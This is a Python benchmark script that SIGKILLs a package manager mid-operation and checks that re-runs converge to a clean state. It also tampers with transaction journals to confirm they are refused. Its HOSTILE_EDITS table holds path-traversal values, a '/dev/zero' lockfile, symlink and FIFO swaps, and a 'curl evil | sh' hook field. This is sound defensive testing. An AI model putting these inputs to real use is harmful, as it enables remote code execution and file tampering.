"""SIGKILL at random points of install, update, ci and remove; every kill is followed by
`doctor` and a re-run that must converge to exactly the tree and lock an uninterrupted run
produces (then `doctor` must be clean). Registries: folder, loopback HTTP, local git.

    python benchmarks/kill_loop.py [--iterations 60] [--seed 1] [--kinds folder,http,git]
                                   [--journal-iterations 24] [--no-after-lock]

Prints one row per (operation, source) with kills that landed mid-run, re-runs that
converged, lock states seen right after the kill (old/new, never anything else) and time.

Journal cases (issue 13): a random delay rarely lands inside a transaction's swap, so these
iterations kill at a random os.replace instead (benchmarks/_killpoint.py), which often
leaves `.staging/<txn>/journal.json` behind. When it does, an attacker edits the journal
(one of HOSTILE_EDITS: a path out of the home, a device as lockfile, a symlinked journal,
...): the next run must refuse it (exit 4) with nothing in the home or outside it changed.
The clean journal is then put back and the re-run must roll back or forward and converge
to the uninterrupted reference, as in the delay loop.

After-lock cases: a kill at EVERY rename that follows the lock write (the commit is on disk;
the journal's last state, `system/index.*.ttl` and derived data are not yet), then doctor
and the re-run (a `remove` re-run exits 7: nothing left to remove) must converge, reference
indexes included (`--no-after-lock` skips them).
tests/hardening/test_kill_loop.py runs a handful of both kinds of iterations in CI.
"""

from __future__ import annotations

import argparse
import hashlib
import json
import os
import random
import shutil
import signal
import subprocess
import sys
import tempfile
import time
from collections import defaultdict
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPO))

from tests.helpers.faults import FaultServer  # noqa: E402
from tests.helpers.registry import (  # noqa: E402
    PackageSpec,
    SkillSpec,
    build_registry,
    commit_all,
    sample_packages,
)

OPS = ("install", "update", "ci", "remove")
Snapshot = dict[str, tuple[str, bool] | bytes]


def packages(version: str) -> list[PackageSpec]:
    """sample_packages + one package big enough (180 assets, ~2 MB) to be killed mid-way."""
    rnd = random.Random(version)
    skills = [SkillSpec(f"skill-{i:03d}", f"skill {i} {version}") for i in range(40)]
    assets = {
        f"skill-{i:03d}/data/blob-{j}.bin": (rnd.randbytes(12_000), j == 0)
        for i in range(40)
        for j in range(4)
    }
    big = PackageSpec(id="big/pkg", version=version, skills=skills, assets=assets)
    specs = sample_packages()
    for s in specs:
        s.version = version
        s.skills[0].description += f" {version}"
    return [*specs, big]


def snapshot(home: Path, lockfile: Path) -> Snapshot:
    out: Snapshot = {}
    tree = home / "ontologies"
    if tree.exists():
        for p in sorted(tree.rglob("*")):
            if p.is_file():
                # system/index.*.ttl hold absolute file: IRIs of this home
                data = p.read_bytes().replace(home.as_uri().encode(), b"file:///HOME")
                out[p.relative_to(home).as_posix()] = (
                    hashlib.sha256(data).hexdigest(),
                    bool(p.stat().st_mode & 0o100),
                )
    out["LOCK"] = lockfile.read_bytes() if lockfile.exists() else b""
    return out


@dataclass
class World:
    """Registries (v1 -> v2) in three kinds and, per kind, the start homes for each op."""

    base: Path
    kinds: tuple[str, ...]
    urls: dict[str, str] = field(default_factory=dict)
    starts: dict[tuple[str, str], Path] = field(default_factory=dict)  # (kind, op) -> dir
    refs: dict[tuple[str, str], Snapshot] = field(default_factory=dict)
    server: FaultServer | None = None
    replaces: dict[tuple[str, str], int] = field(default_factory=dict)  # os.replace per run

    def env(self, run_dir: Path) -> dict[str, str]:
        return {
            **os.environ,
            "ONTOSKILLS_HOME": str(run_dir / "home"),
            "ONTOSKILLS_CACHE_DIR": str(run_dir / "cache"),
            "PYTHONPATH": str(REPO),
            "NO_COLOR": "1",
            "ONTOSKILLS_RETRY_BASE": "0.01",
            "ONTOSKILLS_LOCK_TIMEOUT": "60",
        }

    def cli(self, run_dir: Path, *args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "ontoskills", *args],
            env=self.env(run_dir),
            capture_output=True,
            text=True,
            stdin=subprocess.DEVNULL,
            timeout=300,
        )

    def op_args(self, kind: str, op: str) -> list[str]:
        reg = ["--registry", self.urls[kind]]
        return {
            "install": [*reg, "install", "big/pkg", "acme/design"],
            "update": [*reg, "update"],
            "ci": ["ci"],
            "remove": ["remove", "big/pkg", "acme/design"],
        }[op]


def _must(proc: subprocess.CompletedProcess[str]) -> None:
    if proc.returncode != 0:
        raise RuntimeError(f"{proc.args} exited {proc.returncode}:\n{proc.stderr}")


@contextmanager
def world(base: Path, kinds: tuple[str, ...]) -> Iterator[World]:
    """Build v1 registries, the start homes against v1, then move every registry to v2."""
    w = World(base, kinds)
    reg = build_registry(base / "reg", packages("1.0.0"))
    git_dir = base / "reg-git"
    shutil.copytree(reg, git_dir)
    commit_all(git_dir, "v1")
    with FaultServer(reg) as srv:
        w.server = srv
        w.urls = {"folder": str(reg), "http": srv.url, "git": str(git_dir)}
        for kind in kinds:
            s0 = base / f"start-{kind}-s0"
            _must(w.cli(s0, "--registry", w.urls[kind], "install", "acme/devtools"))
            s1 = base / f"start-{kind}-s1"
            _must(
                w.cli(
                    s1,
                    "--registry",
                    w.urls[kind],
                    "install",
                    "acme/devtools",
                    "acme/design",
                    "big/pkg",
                )
            )
            w.starts[(kind, "install")] = s0
            w.starts[(kind, "update")] = s1
            w.starts[(kind, "remove")] = s1
        # v2: every file of every package changes; the folder/HTTP tree in place, git by commit
        shutil.rmtree(reg)
        build_registry(reg, packages("2.0.0"))
        shutil.rmtree(git_dir / "packages")
        build_registry(git_dir, packages("2.0.0"))
        commit_all(git_dir, "v2")
        for kind in kinds:
            # ci starts from the v1 tree with the lock an update to v2 writes
            ref_upd = base / f"ref-{kind}-update-lock"
            shutil.copytree(w.starts[(kind, "update")], ref_upd, symlinks=True)
            _must(w.cli(ref_upd, *w.op_args(kind, "update")))
            ci_start = base / f"start-{kind}-ci"
            shutil.copytree(w.starts[(kind, "update")], ci_start, symlinks=True)
            shutil.copyfile(ref_upd / "home/ontoskills.lock", ci_start / "home/ontoskills.lock")
            w.starts[(kind, "ci")] = ci_start
            for op in OPS:
                ref = base / f"ref-{kind}-{op}"
                shutil.copytree(w.starts[(kind, op)], ref, symlinks=True)
                t = time.perf_counter()
                _must(w.cli(ref, *w.op_args(kind, op)))
                w.refs[(kind, op)] = snapshot(ref / "home", ref / "home/ontoskills.lock")
                w.refs[(kind, f"{op}-seconds")] = time.perf_counter() - t  # type: ignore[assignment]
        yield w


@dataclass
class Outcome:
    killed_mid_run: bool
    lock_after_kill: str  # "old" | "new" | "other"
    doctor_exit: int
    rerun_exit: int
    converged: bool
    seconds: float
    why: list[str] = field(default_factory=list)  # what differed when not converged


def one_iteration(w: World, kind: str, op: str, rng: random.Random, run_dir: Path) -> Outcome:
    t0 = time.perf_counter()
    if run_dir.exists():
        shutil.rmtree(run_dir)
    shutil.copytree(w.starts[(kind, op)], run_dir, symlinks=True)
    lock = run_dir / "home/ontoskills.lock"
    old_lock = lock.read_bytes() if lock.exists() else b""
    new_lock = w.refs[(kind, op)]["LOCK"]
    duration = float(w.refs[(kind, f"{op}-seconds")])  # type: ignore[arg-type]
    proc = subprocess.Popen(
        [sys.executable, "-m", "ontoskills", *w.op_args(kind, op)],
        env=w.env(run_dir),
        stdin=subprocess.DEVNULL,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    time.sleep(rng.uniform(0.05, duration * 1.1))
    proc.send_signal(signal.SIGKILL)
    proc.wait()
    killed = proc.returncode == -signal.SIGKILL
    after = lock.read_bytes() if lock.exists() else b""
    state = "old" if after == old_lock else "new" if after == new_lock else "other"
    doctor, rerun, why = _doctor_rerun_compare(w, kind, op, run_dir, state)
    return Outcome(
        killed,
        state,
        doctor.returncode,
        rerun.returncode,
        not why,
        time.perf_counter() - t0,
        why,
    )


def _doctor_rerun_compare(
    w: World, kind: str, op: str, run_dir: Path, state: str
) -> tuple[subprocess.CompletedProcess[str], subprocess.CompletedProcess[str], list[str]]:
    """doctor (must not crash), the re-run (must succeed), then what differs from the
    uninterrupted reference (empty: converged) and a final doctor (must be clean)."""
    home, lock = run_dir / "home", run_dir / "home/ontoskills.lock"
    doctor = w.cli(run_dir, "doctor")
    if "Traceback" in doctor.stderr:
        raise RuntimeError(f"doctor crashed after a kill:\n{doctor.stderr}")
    rerun = w.cli(run_dir, *w.op_args(kind, op))
    if op == "remove" and rerun.returncode == 7 and state == "new":
        pass  # the kill landed after the commit: nothing left to remove
    elif rerun.returncode != 0:
        raise RuntimeError(f"re-run of {op} ({kind}) exited {rerun.returncode}:\n{rerun.stderr}")
    got, want = snapshot(home, lock), w.refs[(kind, op)]
    final = w.cli(run_dir, "doctor")
    why = sorted(k for k in set(got) | set(want) if got.get(k) != want.get(k))
    if final.returncode != 0:
        why.append(f"doctor exit {final.returncode}: {final.stderr.strip()[-300:]}")
    return doctor, rerun, why


# ------------------------------------------------------------------ journal cases
KILLPOINT = REPO / "benchmarks" / "_killpoint.py"
Edit = Callable[[Path, dict, Path], None]  # (journal path, its JSON, outside dir)


def _set(**values: object) -> Edit:
    def edit(path: Path, doc: dict, outside: Path) -> None:
        doc.update({k: str(v).replace("OUTSIDE", str(outside)) for k, v in values.items()})
        path.write_text(json.dumps(doc))

    return edit


def _set_op(**values: str) -> Edit:
    def edit(path: Path, doc: dict, outside: Path) -> None:
        doc["ops"][0].update({k: v.replace("OUTSIDE", str(outside)) for k, v in values.items()})
        path.write_text(json.dumps(doc))

    return edit


def _symlinked(path: Path, doc: dict, outside: Path) -> None:
    copy = outside / "journal.json"
    copy.write_text(
        json.dumps({**doc, "ops": [{**op, "target": "../outside"} for op in doc["ops"]]})
    )
    path.unlink()
    os.symlink(copy, path)


def _fifo(path: Path, doc: dict, outside: Path) -> None:
    path.unlink()
    os.mkfifo(path)


HOSTILE_EDITS: dict[str, tuple[Edit, bool]] = {  # name -> (edit, needs an op)
    "target-traversal": (_set_op(target="../outside"), True),
    "target-absolute": (_set_op(target="OUTSIDE"), True),
    "target-author-folder": (_set_op(target="ontologies/author"), True),
    "new-traversal": (_set_op(new="../../../outside"), True),
    "backup-traversal": (_set_op(backup="old/../../../outside"), True),
    "lockfile-device": (_set(lockfile="/dev/zero"), False),
    "lockfile-relative": (_set(lockfile="ontoskills.lock"), False),
    "unknown-state": (_set(state="rolled-over"), False),
    "extra-field": (_set(hook="curl evil | sh"), False),
    "journal-symlink": (_symlinked, False),
    "journal-fifo": (_fifo, False),
}


@dataclass
class JournalOutcome:
    journal_left: bool
    edit: str  # the hostile edit applied ("" when no journal was left)
    refused: bool  # the run after the edit exited 4 naming the journal, nothing changed
    recovered: str  # "rolled back" | "completed" | "" (what the re-run reported)
    converged: bool
    seconds: float
    why: list[str] = field(default_factory=list)


def _count_replaces(w: World, kind: str, op: str, base: Path) -> int:
    """os.replace calls of an uninterrupted run: the range kill points are drawn from."""
    if (kind, op) not in w.replaces:
        run_dir = base / "count"
        if run_dir.exists():
            shutil.rmtree(run_dir)
        shutil.copytree(w.starts[(kind, op)], run_dir, symlinks=True)
        count = run_dir / "replaces"
        _must(_killpoint(w, run_dir, kind, op, {"ONTOSKILLS_BENCH_COUNT": str(count)}))
        w.replaces[(kind, op)] = int(count.read_text())
        shutil.rmtree(run_dir)
    return w.replaces[(kind, op)]


def _killpoint(
    w: World, run_dir: Path, kind: str, op: str, extra: dict[str, str]
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, str(KILLPOINT), *w.op_args(kind, op)],
        env={**w.env(run_dir), **extra},
        capture_output=True,
        text=True,
        stdin=subprocess.DEVNULL,
        timeout=300,
    )


def journal_iteration(
    w: World, kind: str, op: str, rng: random.Random, run_dir: Path
) -> JournalOutcome:
    t0 = time.perf_counter()
    total = _count_replaces(w, kind, op, run_dir.parent)
    if run_dir.exists():
        shutil.rmtree(run_dir)
    shutil.copytree(w.starts[(kind, op)], run_dir, symlinks=True)
    home, lock = run_dir / "home", run_dir / "home/ontoskills.lock"
    outside = run_dir / "outside"
    outside.mkdir()
    (outside / "precious").write_text("keep me")
    old_lock = lock.read_bytes() if lock.exists() else b""
    kill_at = rng.randint(1, total)
    _killpoint(w, run_dir, kind, op, {"ONTOSKILLS_BENCH_KILL_AT": str(kill_at)})
    after = lock.read_bytes() if lock.exists() else b""
    state = "old" if after == old_lock else "new" if after == w.refs[(kind, op)]["LOCK"] else "?"
    journals = sorted((home / ".staging").glob("*/journal.json"))
    out = JournalOutcome(bool(journals), "", False, "", False, 0.0)
    if journals:
        journal = journals[0]
        original = journal.read_bytes()
        doc = json.loads(original)
        names = sorted(
            n for n, (_, needs_op) in HOSTILE_EDITS.items() if doc["ops"] or not needs_op
        )
        out.edit = rng.choice(names)
        HOSTILE_EDITS[out.edit][0](journal, doc, outside)
        before = snapshot(home, lock)
        hostile = w.cli(run_dir, *w.op_args(kind, op))
        out.refused = (
            hostile.returncode == 4
            and "journal.json" in hostile.stderr
            and snapshot(home, lock) == before
            and sorted(p.name for p in outside.iterdir() if p.name != "journal.json")
            == ["precious"]
            and (outside / "precious").read_text() == "keep me"
        )
        if not out.refused:
            out.why.append(
                f"hostile {out.edit}: exit {hostile.returncode}: {hostile.stderr[-300:]}"
            )
        journal.unlink(missing_ok=True)  # the user puts the journal ontoskills wrote back
        journal.write_bytes(original)
    _, rerun, why = _doctor_rerun_compare(w, kind, op, run_dir, state)
    out.recovered = next(
        (r for r in ("rolled back", "completed") if f"{r} interrupted transaction" in rerun.stderr),
        "",
    )
    out.why += why
    out.converged = not out.why
    out.seconds = time.perf_counter() - t0
    return out


# ------------------------------------------------------------- kills after the commit
INDEXES = ("ontologies/system/index.enabled.ttl", "ontologies/system/index.installed.ttl")


@dataclass
class AfterLockOutcome:
    kill_at: int  # the os.replace killed (1-based); the lock write was an earlier one
    renaming: str  # what that rename would have written, relative to the run folder
    lock_after_kill: str  # must be "new": the commit is on disk
    indexes_stale: bool  # system/index.*.ttl did not match the new lock right after the kill
    rerun_exit: int
    converged: bool
    why: list[str] = field(default_factory=list)


def _trace(w: World, kind: str, op: str, base: Path) -> list[str]:
    """Destinations of every os.replace of an uninterrupted run, relative to its folder."""
    run_dir = base / "trace"
    if run_dir.exists():
        shutil.rmtree(run_dir)
    shutil.copytree(w.starts[(kind, op)], run_dir, symlinks=True)
    trace = run_dir / "trace.txt"
    _must(_killpoint(w, run_dir, kind, op, {"ONTOSKILLS_BENCH_TRACE": str(trace)}))
    lines = [
        os.path.relpath(os.path.realpath(line), os.path.realpath(run_dir))
        for line in trace.read_text().splitlines()
    ]
    shutil.rmtree(run_dir)
    return lines


def after_lock_iterations(w: World, kind: str, op: str, base: Path) -> list[AfterLockOutcome]:
    """SIGKILL at every rename after the lock write: the commit is on disk, what follows it
    (the journal's last state, `system/index.*.ttl`, derived data) is not. The re-run (for
    `remove`: of a package already gone, exit 7) must bring the tree, the reference indexes
    and the lock to exactly what an uninterrupted run leaves."""
    trace = _trace(w, kind, op, base)
    lock_writes = [i for i, d in enumerate(trace, 1) if d == "home/ontoskills.lock"]
    if not lock_writes:
        return []
    ref = w.refs[(kind, op)]
    outs = []
    for kill_at in range(lock_writes[-1] + 1, len(trace) + 1):
        run_dir = base / "run"
        if run_dir.exists():
            shutil.rmtree(run_dir)
        shutil.copytree(w.starts[(kind, op)], run_dir, symlinks=True)
        home, lock = run_dir / "home", run_dir / "home/ontoskills.lock"
        _killpoint(w, run_dir, kind, op, {"ONTOSKILLS_BENCH_KILL_AT": str(kill_at)})
        state = "new" if (lock.read_bytes() if lock.exists() else b"") == ref["LOCK"] else "?"
        got = snapshot(home, lock)
        stale = any(got.get(i) != ref.get(i) for i in INDEXES)
        _, rerun, why = _doctor_rerun_compare(w, kind, op, run_dir, state)
        if state != "new":
            why.insert(0, "the lock on disk is not the new one after a kill past its write")
        outs.append(
            AfterLockOutcome(
                kill_at, trace[kill_at - 1], state, stale, rerun.returncode, not why, why
            )
        )
    return outs


def print_after_lock_table(after: dict[tuple[str, str], list[AfterLockOutcome]]) -> bool:
    print(
        f"\n{'operation':<9} {'source':<7} {'kill points after the lock write':>33} "
        f"{'indexes stale after kill':>24} {'converged':>9}"
    )
    ok = True
    for (kind, op), outs in sorted(after.items(), key=lambda kv: (OPS.index(kv[0][1]), kv[0][0])):
        conv = sum(o.converged for o in outs)
        ok = ok and conv == len(outs)
        stale = sum(o.indexes_stale for o in outs)
        print(f"{op:<9} {kind:<7} {len(outs):>33} {stale:>24} {conv:>9}")
        for o in outs:
            if not o.converged:
                print(f"NOT CONVERGED (after lock) {op} {kind} at {o.renaming}: {o.why[:5]}")
    return ok


def run(
    iterations: int,
    seed: int,
    kinds: tuple[str, ...],
    base: Path,
    journal_iterations: int = 0,
    after_lock: bool = False,
) -> tuple[
    dict[tuple[str, str], list[Outcome]],
    dict[tuple[str, str], list[JournalOutcome]],
    dict[tuple[str, str], list[AfterLockOutcome]],
]:
    rng = random.Random(seed)
    results: dict[tuple[str, str], list[Outcome]] = defaultdict(list)
    journals: dict[tuple[str, str], list[JournalOutcome]] = defaultdict(list)
    after: dict[tuple[str, str], list[AfterLockOutcome]] = {}
    with world(base, kinds) as w:
        combos = [(k, op) for k in kinds for op in OPS]
        for i in range(iterations):
            kind, op = combos[i % len(combos)]
            results[(kind, op)].append(one_iteration(w, kind, op, rng, base / "run"))
        for i in range(journal_iterations):
            kind, op = combos[i % len(combos)]
            journals[(kind, op)].append(journal_iteration(w, kind, op, rng, base / "run"))
        for kind, op in combos if after_lock else ():
            after[(kind, op)] = after_lock_iterations(w, kind, op, base)
    return results, journals, after


def print_journal_table(journals: dict[tuple[str, str], list[JournalOutcome]]) -> bool:
    """The journal cases' table; True when every one was refused and converged."""
    print(
        f"\n{'operation':<9} {'source':<7} {'runs':>4} {'journal left':>12} "
        f"{'hostile refused':>15} {'rolled back/fwd':>15} {'converged':>9} {'s/iter':>6}"
    )
    ok = True
    for (kind, op), outs in sorted(
        journals.items(), key=lambda kv: (OPS.index(kv[0][1]), kv[0][0])
    ):
        left = sum(o.journal_left for o in outs)
        refused = sum(o.refused for o in outs)
        back = sum(o.recovered == "rolled back" for o in outs)
        fwd = sum(o.recovered == "completed" for o in outs)
        conv = sum(o.converged for o in outs)
        mean = sum(o.seconds for o in outs) / len(outs)
        ok = ok and conv == len(outs) and refused == left
        print(
            f"{op:<9} {kind:<7} {len(outs):>4} {left:>12} {refused:>15} "
            f"{f'{back}/{fwd}':>15} {conv:>9} {mean:>6.2f}"
        )
    edits = sorted({o.edit for v in journals.values() for o in v if o.edit})
    print(f"hostile edits used: {', '.join(edits) or 'none'}")
    for (kind, op), outs in journals.items():
        for o in outs:
            if not o.converged:
                print(f"NOT CONVERGED (journal) {op} {kind} {o.edit}: {o.why[:5]}")
    return ok


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("--iterations", type=int, default=60)
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--kinds", default="folder,http,git")
    ap.add_argument("--journal-iterations", type=int, default=24)
    ap.add_argument(
        "--no-after-lock",
        action="store_true",
        help="skip the kills at every rename after the lock write",
    )
    args = ap.parse_args()
    kinds = tuple(args.kinds.split(","))
    t = time.perf_counter()
    with tempfile.TemporaryDirectory(prefix="ontoskills-kill-") as tmp:
        results, journals, after = run(
            args.iterations,
            args.seed,
            kinds,
            Path(tmp),
            args.journal_iterations,
            after_lock=not args.no_after_lock,
        )
    print(
        f"{'operation':<9} {'source':<7} {'runs':>4} {'killed':>6} {'lock old/new/other':>19} "
        f"{'converged':>9} {'s/iter':>6}"
    )
    total = killed = converged = 0
    for (kind, op), outs in sorted(results.items(), key=lambda kv: (OPS.index(kv[0][1]), kv[0][0])):
        states = [sum(o.lock_after_kill == s for o in outs) for s in ("old", "new", "other")]
        k = sum(o.killed_mid_run for o in outs)
        c = sum(o.converged for o in outs)
        total, killed, converged = total + len(outs), killed + k, converged + c
        mean = sum(o.seconds for o in outs) / len(outs)
        print(
            f"{op:<9} {kind:<7} {len(outs):>4} {k:>6} {'/'.join(map(str, states)):>19} "
            f"{c:>9} {mean:>6.2f}"
        )
    print(
        f"total: {total} iterations, {killed} SIGKILLs landed mid-run, {converged} converged, "
        f"{total - converged} lost; {time.perf_counter() - t:.0f} s"
    )
    for (kind, op), outs in results.items():
        for o in outs:
            if not o.converged:
                print(f"NOT CONVERGED {op} {kind}: lock {o.lock_after_kill}; {o.why[:5]}")
    journals_ok = print_journal_table(journals) if journals else True
    after_ok = print_after_lock_table(after) if after else True
    if (
        converged != total
        or any(o.lock_after_kill == "other" for v in results.values() for o in v)
        or not journals_ok
        or not after_ok
    ):
        sys.exit(1)


if __name__ == "__main__":
    main()
